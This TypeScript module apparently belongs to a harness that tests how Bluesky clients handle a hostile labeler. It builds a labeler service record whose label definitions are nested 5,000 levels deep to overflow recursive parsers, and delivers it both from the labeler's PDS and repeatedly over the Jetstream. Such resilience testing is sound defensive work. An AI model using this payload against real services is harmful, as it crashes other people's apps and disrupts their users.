import type { Kind } from '../attack.ts';
import { deepJson } from '../bytes.ts';
import { commitText } from '../jetstream.ts';
import { sendRecord } from '../sound.ts';

/** Depth at which a recursive writer overflows its stack; the record has 10 kB. */
const depth = 5_000;

const record = `{"$type":"app.bsky.labeler.service","createdAt":"2026-01-05T09:00:00.000Z","policies":{"labelValues":["spam"],"labelValueDefinitions":${deepJson(depth)}}}`;

/** Deeply nested definitions in the record on the labeler's own PDS. */
export const deepDefinitions: Kind = {
  name: 'deep-definitions',
  does: 'serves label definitions nested 5,000 deep from its own PDS',
  attack: ({ labeler }) => ({ stream: null, record: ({ response }) => sendRecord(response, labeler.did, record) }),
};

/** Deeply nested definitions in a record on the Jetstream. */
export const deepAnnouncement: Kind = {
  name: 'deep-announcement',
  does: 'writes label definitions nested 5,000 deep, which the Jetstream carries',
  attack: ({ labeler }) => {
    let written = 0;
    return {
      stream: null,
      // The record is rewritten every ten seconds.
      announce: () => (written++ % 100 === 0 ? [commitText(labeler.did, record)] : []),
    };
  },
};
